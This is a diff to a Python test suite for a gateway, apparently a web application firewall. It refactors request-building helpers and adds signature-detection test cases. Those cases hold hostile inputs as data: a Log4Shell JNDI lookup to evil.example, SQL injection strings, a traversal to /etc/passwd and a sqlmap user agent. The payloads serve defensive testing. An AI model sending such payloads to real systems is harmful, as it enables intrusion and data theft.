@@ -765,15 +765,19 @@ def stream_overlap(zt, args):
 POLICY = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'policy.conf')
 
 
-def request(method, path, host='api.example', body=b''):
+def request(method, path, host='api.example', body=b'', headers=()):
+    """A request's bytes: the request line, Host, the (name, value) headers in order, then
+    Content-Length when there is a body, and the body."""
     head = '%s %s HTTP/1.1\r\nHost: %s\r\n' % (method, path, host)
+    for name, value in headers:
+        head += '%s: %s\r\n' % (name, value)
     if body:
         head += 'Content-Length: %d\r\n' % len(body)
     return head.encode() + b'\r\n' + body
 
 
 def one_request(client, server, raw, sport, dport=80):
-    """A connection carrying one request: the packets, and the request's segment."""
+    """The packets of a connection carrying one request: the handshake, then the request in one segment."""
     t = TcpSession(client, server, sport=sport, dport=dport)
     return t.handshake() + [t.c('PA', raw)]
 
@@ -1145,7 +1149,6 @@ def run_identity(zt, entries, policy, first_sport):
         r.fail('%d problem(s) with %d requests:\n  %s' % (len(problems), len(sessions), '\n  '.join(problems)))
     print('ok: %d requests (%d allowed, %d denied as expected) under %s' %
           (len(sessions), allowed, len(sessions) - allowed, os.path.basename(policy)))
-    return r
 
 
 @case('identity-jwt')
@@ -1205,7 +1208,7 @@ class LiveZtgate:
     steps() runs ztgatectl commands between stretches of traffic and remembers when."""
 
     def __init__(self, zt, ztgatectl, tmp, name, policy, packets):
-        self.ztgatectl, self.tmp, self.name = ztgatectl, tmp, name
+        self.ztgatectl, self.name = ztgatectl, name
         path = lambda suffix: os.path.join(tmp, '%s.%s' % (name, suffix))
         self.events_path, self.stats_path, self.sock = path('events.json'), path('stats.json'), path('sock')
         with RawPcapWriter(path('pcap'), linktype=DLT_EN10MB) as pcap:
@@ -1298,7 +1301,11 @@ def live_check(name, phases, events, want, log):
     print('ok %s: %s' % (name, ', '.join('%s %d allowed' % (p[0], p[3]) for p in phases)))
 
 
-def live_sessions(entries_by_sport, copies=3, filler=12):
+# Connections per (sport, entry) in live_sessions: sport, sport + 100, sport + 200.
+LIVE_COPIES = 3
+
+
+def live_sessions(entries_by_sport, copies=LIVE_COPIES, filler=12):
     """Handshake, the entry's request, response and close, for every (sport, entry), in
     `copies` connections each (sport + 100 n); between them `filler` anonymous requests keep
     the event log (one line per refusal, the pcap replaying at full speed) to a few MB."""
@@ -1324,7 +1331,7 @@ def identity_rotation(zt, args):
         policies = {v: identity_policy(tmp, 'rotation-%s.conf' % v, keys='jwks_file = "keys/rotation-%s.jwks";' % v,
                                        algorithms=['ES256']) for v in ('old', 'both', 'new')}
         old, new = 47000, 47001
-        sports = lambda w: {s + 100 * n: r for s, r in w.items() for n in range(3)}
+        sports = lambda w: {s + 100 * n: r for s, r in w.items() for n in range(LIVE_COPIES)}
         live = LiveZtgate(zt, args.ztgatectl, tmp, 'rotation', policies['old'],
                           live_sessions({old: tokens['rotation-old'], new: tokens['rotation-new']}))
         try:
@@ -1332,7 +1339,7 @@ def identity_rotation(zt, args):
                                  ('both keys', [['apply', policies['both']]]),
                                  ('new key', [['apply', policies['new']]])])
         finally:
-            events, audits, totals = live.stop()
+            events, audits, _ = live.stop()
         if [(a['audit']['command'], a['audit']['status']) for a in audits if a['audit']['command'] == 'apply'] != \
                 [('apply', 0)] * 2:
             raise AssertionError('expected two audited applies: %s' % audits)
@@ -1351,7 +1358,7 @@ def identity_rotation(zt, args):
                                  ('key revoked', [['unrevoke', 'jti', 'revoked-jti-1']])])
             listed = live.ctl('revocations')
         finally:
-            events, audits, totals = live.stop()
+            events, audits, _ = live.stop()
         if 'batch' not in listed or 'revoked-jti-1' in listed:
             raise AssertionError('ztgatectl revocations: expected key batch only, got:\n%s' % listed)
         commands = [(a['audit']['command'], a['audit']['args'], a['audit']['status']) for a in audits
@@ -1373,13 +1380,6 @@ def identity_rotation(zt, args):
 SIGNATURE_POLICY = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'signatures', 'policy.conf')
 
 
-def request_with(method, target, headers=()):
-    head = '%s %s HTTP/1.1\r\nHost: api.example\r\n' % (method, target)
-    for name, value in headers:
-        head += '%s: %s\r\n' % (name, value)
-    return head.encode() + b'\r\n'
-
-
 @case('signatures-request')
 def signatures_request(zt, args):
     """Each request on its own connection against tests/pipeline/signatures/pipeline.rules: a block
@@ -1388,24 +1388,24 @@ def signatures_request(zt, args):
     rule and a monitor route that report what they would block; a route selecting no set; benign
     requests. Each event lists the rule ids and the score."""
     cases = [  # sport, request, expected (action, reason, rules, score) or None for no event
-        (42000, request_with('GET', '/api/v1/search?q=shoes&page=2'), None),
-        (42001, request_with('GET', '/api/v1/search', [('X-Api-Version', '${jndi:ldap://evil.example/a}')]),
+        (42000, request('GET', '/api/v1/search?q=shoes&page=2'), None),
+        (42001, request('GET', '/api/v1/search', headers=[('X-Api-Version', '${jndi:ldap://evil.example/a}')]),
          ('deny', 'signature', [900001], 0)),
-        (42002, request_with('GET', '/api/v1/search?q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D'), ('deny', 'signature', [900001], 0)),
-        (42003, request_with('GET', '/api/v1/search?q=1%27%20UNION%20ALL%20SELECT%20pass%20--'),
+        (42002, request('GET', '/api/v1/search?q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D'), ('deny', 'signature', [900001], 0)),
+        (42003, request('GET', '/api/v1/search?q=1%27%20UNION%20ALL%20SELECT%20pass%20--'),
          ('deny', 'anomaly_score', [900002, 900003], 5)),
-        (42004, request_with('GET', '/api/v1/search?q=1%20union%20select%201'), None),   # score 3 < 5: passes
-        (42005, request_with('GET', '/api/v1/search', [('X-Original-URL', '/admin/../../etc/passwd')]),
+        (42004, request('GET', '/api/v1/search?q=1%20union%20select%201'), None),   # score 3 < 5: passes
+        (42005, request('GET', '/api/v1/search', headers=[('X-Original-URL', '/admin/../../etc/passwd')]),
          ('deny', 'signature', [900004], 0)),
-        (42006, request_with('GET', '/api/v1/search', [('X-Forwarded-For', '../')]), None),   # not that header
-        (42007, request_with('GET', '/api/v1/search', [('User-Agent', 'sqlmap/1.7')]),
+        (42006, request('GET', '/api/v1/search', headers=[('X-Forwarded-For', '../')]), None),   # not that header
+        (42007, request('GET', '/api/v1/search', headers=[('User-Agent', 'sqlmap/1.7')]),
          ('pass', 'signature_alert', [900005], 0)),
-        (42008, request_with('GET', '/api/v1/search', [('Cookie', 'a=1; b=<SCRIPT>x')]), ('deny', 'signature', [900006], 0)),
-        (42009, request_with('GET', '/api/v1/items/a%7Cb'), ('pass', 'signature_alert', [900007], 0)),
-        (42010, request_with('GET', '/api/v1/items/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'),
+        (42008, request('GET', '/api/v1/search', headers=[('Cookie', 'a=1; b=<SCRIPT>x')]), ('deny', 'signature', [900006], 0)),
+        (42009, request('GET', '/api/v1/items/a%7Cb'), ('pass', 'signature_alert', [900007], 0)),
+        (42010, request('GET', '/api/v1/items/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'),
          ('pass', 'signature_alert', [900001], 0)),
-        (42011, request_with('GET', '/plain?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'), None),
-        (42012, request_with('GET', "/api/v1/search?q=O%27Brien%27s%20union%20of%20selected%20items"), None),
+        (42011, request('GET', '/plain?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'), None),
+        (42012, request('GET', "/api/v1/search?q=O%27Brien%27s%20union%20of%20selected%20items"), None),
     ]
     packets = []
     for sport, raw, _ in cases:
